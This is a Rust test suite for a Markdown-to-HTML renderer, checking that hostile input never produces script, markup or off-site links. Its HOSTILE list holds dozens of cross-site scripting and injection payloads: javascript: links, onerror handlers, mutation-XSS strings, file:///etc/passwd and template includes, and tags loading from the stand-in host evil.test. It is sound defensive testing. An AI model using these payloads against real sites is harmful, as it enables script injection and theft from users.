//! What no body ever does, whatever is written in it: bring markup, run something, or lead where no page leads. Its links are left as hostile as they are
//! written.

use promo_packet::document::{Citation, Document, Link, html, markdown, plain};
use promo_packet::source::{PacketPath, Span};
use promo_packet::syntax::markdown::{LinkKind, read_markdown};
use proptest::prelude::*;
use std::collections::BTreeMap;
use std::sync::Arc;

mod inspect;

use inspect::complaints;

/// A page on which links lead where they say, whatever they say, and a note is titled by its id.
fn page(text: &str, prefix: &str) -> String {
    html::write(&document(text, prefix))
}

fn document(text: &str, prefix: &str) -> Document {
    let file = PacketPath::new("evidence/a.md").unwrap();
    let markdown = read_markdown(&file, text, Span::new(&file, 0, text.len()), &mut Vec::new());
    let links = markdown.links.iter().map(|link| Link {
        href: Some(link.destination.value.clone()),
        words: (link.kind == LinkKind::Wiki).then(|| link.destination.value.clone()),
        title: link.title.clone(),
        text: link.text.clone(),
        is_outside: true,
        pixels: None,
    });
    let figure = Citation { words: "1.2 s → 180 ms".to_owned(), href: "../metrics.html#m-p99".to_owned() };
    Document {
        links: links.collect(),
        figures: BTreeMap::from([("p99".to_owned(), figure)]),
        prefix: prefix.to_owned(),
        heading_level: 2,
        numbers_links: true,
        source_positions: None,
        markdown: Arc::new(markdown),
    }
}

/// Text that has got through filters elsewhere.
const HOSTILE: &[&str] = &[
    "[a](javascript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](JaVaScRiPt:alert(1))",
    "[a](< javascript:alert(1)>)",
    "[a](<\u{1}javascript:alert(1)>)",
    "[a](vbscript:x)",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](file:///etc/passwd)",
    "[a](//evil.test/x)",
    "[a](\\\\\\\\evil.test\\\\x)",
    "<javascript:alert(1)>",
    "[[javascript:alert(1)]]",
    "[[javascript:alert(1)|x]]",
    "![a](javascript:alert(1))",
    "![a](//tracker/x.gif)",
    "![a](http://tracker/x.gif)",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![\"><img src=x onerror=alert(1)>](a.png)",
    "![a](a.png \"\\\"><img src=x onerror=alert(1)>\")",
    "![a](a.png\"onerror=\"alert(1))",
    "[a](b\"onmouseover=\"alert(1))",
    "[a](b '\"><script>alert(1)</script>')",
    "[a]: b \"\\\" onclick=x \\\"\"\n\n[a]",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "a <img src=x onerror=alert(1)> b",
    "<img src=x\nonerror=alert(1)>",
    "<iframe src=//evil.test></iframe>",
    "<base href=//evil.test>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<form action=//evil.test><button>x</button></form>",
    "<style>*{background:url(//evil.test)}</style>",
    "<link rel=stylesheet href=//evil.test>",
    "<object data=x></object><embed src=x>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "# a {#x onclick=alert(1) .b}",
    "# a {#\"><script>alert(1)</script>}",
    "# <img src=x onerror=alert(1)>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "- [x] <script>alert(1)</script>",
    "a[^\"><script>]\n\n[^\"><script>]: b",
    "> [!note\"><script>alert(1)</script>]\n> a",
    "{{metric:\"><script>alert(1)</script>}}",
    "{{ __tera_context }} {% include \"/etc/passwd\" %}",
    "[a [[b]] c](d) [e [f](g) h](i)",
];

#[test]
fn nothing_hostile_comes_through() {
    for text in HOSTILE {
        let html = page(text, "");
        assert_eq!(complaints(&html), [""; 0], "{text}\n{html}");
    }
    let all = HOSTILE.join("\n\n");
    assert_eq!(complaints(&page(&all, "x-")), [""; 0], "all of them on one page");
    for bad in
        ["<script>", "<a onclick=x>", "<a href=javascript:x>", "<a href=' java\nscript:x'>", "<img src=//x>", "<svg>"]
    {
        assert_ne!(complaints(bad), [""; 0], "the test sees `{bad}`");
    }
}

/// A piece of Markdown, most of it meant to break something.
fn fragment() -> impl Strategy<Value = String> {
    let marks = [
        "\n", "\n\n", "> ", "- ", "1. ", "# ", "|", "|-|\n", "```", "`", "*", "_", "~~", "\"", "'", "<", ">", "&", "\\",
    ];
    let more = [
        "[",
        "]",
        "(",
        ")",
        "](",
        "![",
        "[[",
        "]]",
        "[^1]",
        "\n\n[^1]: ",
        "{{metric:p99}}",
        "> [!private]\n> ",
        "    ",
        "\t",
    ];
    prop_oneof![
        2 => proptest::sample::select(HOSTILE).prop_map(str::to_owned),
        3 => proptest::sample::select(marks.to_vec()).prop_map(str::to_owned),
        3 => proptest::sample::select(more.to_vec()).prop_map(str::to_owned),
        1 => "\\PC{0,8}",
    ]
}

proptest! {
    #[test]
    fn nothing_hostile_comes_through_in_any_mix(parts in proptest::collection::vec(fragment(), 0..24)) {
        let text = parts.concat();
        let html = page(&text, "e-1-");
        prop_assert_eq!(complaints(&html), [""; 0], "{}\n{}", text, html);
        for tag in ["p", "a", "div", "li", "td", "sup", "section", "figure", "h2", "em"] {
            let opened = html.matches(&format!("<{tag}>")).count() + html.matches(&format!("<{tag} ")).count();
            prop_assert_eq!(opened, html.matches(&format!("</{tag}>")).count(), "`{}` in {}\n{}", tag, text, html);
        }
    }
}

#[test]
fn the_page_stays_in_proportion() {
    const SIZE: usize = 1 << 18;
    for unit in [
        "> ",
        "- a\n  ",
        "*a ",
        "[a](",
        "![",
        "[[a]]",
        "a[^1]",
        "|",
        "<!--",
        "`",
        "# a\n",
        "&amp;",
        "<b>",
        "- [ ] a\n",
        "> [!note]\n",
        "\"",
        "{{metric:p99}}",
    ] {
        let text = format!("{}\n\n[^1]: b\n", unit.repeat(SIZE / unit.len()));
        let html = page(&text, "e-07-");
        assert!(html.len() <= 64 * SIZE, "{unit:?} became {} KiB", html.len() >> 10);
    }
}

/// Every walker calls itself, on the small stack of a thread: of what is nested without end, the tree keeps so much that none runs out of it.
#[test]
fn no_walker_runs_out_of_its_stack() {
    for unit in ["> ", "- ", "1. ", "[^1]: ", "*", "> [!note]\n> ", "> - > 1. ", "**_"] {
        let deep = unit.repeat(2000);
        for text in [format!("{deep}a"), format!("{deep}[!private]\n{deep}a"), format!("{deep}a{deep} {deep}b")] {
            let document = document(&text, "");
            html::write(&document);
            assert!(plain::plain_text(&document.markdown).contains('a'), "no word is lost: {unit:?}");
            assert!(serde_json::to_string(&document).unwrap().contains("blocks"));
            assert!(!markdown::write(&document).is_empty());
            drop(document.markdown.without_private());
        }
    }
}
